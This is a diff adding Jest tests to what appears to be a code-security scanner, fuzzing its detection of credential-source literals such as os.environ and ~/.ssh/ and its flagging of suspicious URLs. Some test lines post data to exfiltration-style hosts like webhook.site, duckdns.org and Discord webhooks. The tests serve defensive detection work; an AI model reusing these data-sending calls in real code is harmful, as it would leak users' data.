@@ -5,6 +5,10 @@
 import { describe, expect, it } from '@jest/globals';
 import { expectFires, expectQuiet } from '../helpers/rules';
 import { analyseAdded } from '@security-actions/core/content';
+import { SOURCE_LITERALS, sourceLines } from '../../packages/core/src/content/behaviour';
+import { LISTED, listedBefore } from '../../packages/core/src/content/calls';
+import { newScan } from '../../packages/core/src/content/scan';
+import { Text } from '../../packages/core/src/content/source';
 import { added, file, severities } from './helpers';
 
 describe('code/download-exec', () => {
@@ -123,6 +127,27 @@ describe('code/exfiltration', () => {
     expectQuiet(found11, 'code/exfiltration');
   });
 
+  it('reads for sources exactly the lines that hold a source literal, found in one pass over the text', () => {
+    // Lines of literals, pieces of them, non-ASCII text and CRLF endings, in random order.
+    const pieces = ['os.environ', 'envir', 'on', 'getenv', 'get', 'env', '~/.ssh/', '.ss', 'h/', 'id_', 'whoami'];
+    pieces.push(' = ', 'x', '(', ')', '"', 'é', 'Ж', '\r', '\n', '\n', '\n', 'process.env', 'process.', 'ENV[');
+    let x = 5;
+    const rnd = (k: number) => ((x = (x * 1103515245 + 12345) >>> 0) >>> 8) % k;
+    let held = 0;
+    for (let n = 0; n < 3000; n++) {
+      let text = '';
+      for (let p = rnd(40); p >= 0; p--) text += pieces[rnd(pieces.length)];
+      const s = newScan(Text.ofFile(n % 2 ? 'pkg/m.py' : 'web/m.js', text), 'file');
+      const expected: number[] = [];
+      for (let i = 0; i < s.t.count; i++) if (SOURCE_LITERALS.in(s.t.line(i))) expected.push(i);
+      expect([text, [...sourceLines(s)!]]).toEqual([text, expected]);
+      held += expected.length;
+    }
+    expect(held).toBeGreaterThan(1000);
+    // A notebook's code lines are unescaped JSON strings (`.ssh\/` is `.ssh/`): read line by line there.
+    expect(sourceLines(newScan(Text.ofFile('a.ipynb', '"open(\'~/.ssh\\/id\')"'), 'file'))).toBeUndefined();
+  });
+
   it('keeps a copied environment for a subprocess quiet', () => {
     const found12 = file(
       'tests/test_pycc.py',
@@ -146,6 +171,32 @@ describe('code/shady-link', () => {
     expect(
       severities(added('pkg/c.py', 'requests.post("http://203.0.113.42/collect", json=data)'), 'code/shady-link')
     ).toEqual(['high']);
+  });
+
+  it('judges a URL seen before (its host classified once) as the first time, long and unusual ones included', () => {
+    const run = Math.random().toString(36).slice(2); // URLs this process has not seen
+    const urls = [
+      `https://webhook.site/${run}`,
+      `http://203.0.113.9/${run}`,
+      `https://${run}.duckdns.org/x`,
+      `https://discord.com/api/webhooks/1/${run}`,
+      `https://discord.com/invite/${run}`,
+      `https://8.8.8.8/${run}`,
+      `https://numpy.org/${run}`,
+      `http://127.0.0.1/${run}`,
+      `ws://${run}\ud800.tk/`, // a lone surrogate: the host is named in the message as it was written
+      `https://pastebin.com/${run}/${'a'.repeat(300)}` // too long to be kept
+    ];
+    const text = urls.map((u, i) => `r${i} = requests.post("${u}", json=data)`).join('\n');
+    const first = file('pkg/send.py', text);
+    expect(first.filter((f) => f.ruleId === 'code/shady-link').length).toBe(7);
+    expect(first.some((f) => f.message.includes(`\`${run}\ud800.tk\``))).toBe(true);
+    expect(file('pkg/send.py', text)).toEqual(first);
+    // Found again in another file, at other offsets, each URL is judged the same.
+    const again = file('pkg/other.py', `x = 1\n${text.split('\n').reverse().join('\n')}`);
+    const shady = (fs: typeof first) =>
+      fs.filter((f) => f.ruleId === 'code/shady-link').map((f) => [f.message, f.severity, f.properties]);
+    expect(shady(again).sort()).toEqual(shady(first).sort());
   });
 
   it('is quiet on URLs in comments and docstrings, localhost, and Discord invites', () => {
@@ -223,5 +274,28 @@ describe('code/steganography', () => {
   it('is quiet on reading images for analysis', () => {
     const found16 = file('skimage/io.py', 'img = imageio.imread("coins.png")\nresult = eval_metric(img)');
     expectQuiet(found16, 'code/steganography');
+  });
+});
+
+describe('the calls looked at', () => {
+  it('are the ones whose callee ends with a listed name, as comparing the characters before each `(` says', () => {
+    // A listed name of four characters or more matches on its last four; a shorter one as a whole word.
+    const listed = (s: string, at: number) =>
+      LISTED.some((n) =>
+        n.length >= 4 ? s.slice(at - 4, at) === n.slice(-4) : s.slice(at - 3, at) === ` ${n}`.slice(-3)
+      );
+    const pieces = [...LISTED, ...LISTED.map((n) => n.slice(1)), ...LISTED.map((n) => n.slice(0, -1))];
+    pieces.push('.', ' ', 'x', 'ab', '(', 'é', '_', '$', 'Run', 'EXEC');
+    let x = 17;
+    const rnd = (k: number) => ((x = (x * 1103515245 + 12345) >>> 0) >>> 8) % k;
+    let found = 0;
+    for (let n = 0; n < 20000; n++) {
+      let s = '    ';
+      for (let p = rnd(4); p >= 0; p--) s += pieces[rnd(pieces.length)];
+      expect([s, listedBefore(s, s.length)]).toEqual([s, listed(s, s.length)]);
+      if (listed(s, s.length)) found++;
+    }
+    expect(found).toBeGreaterThan(3000);
+    expect(found).toBeLessThan(17000);
   });
 });
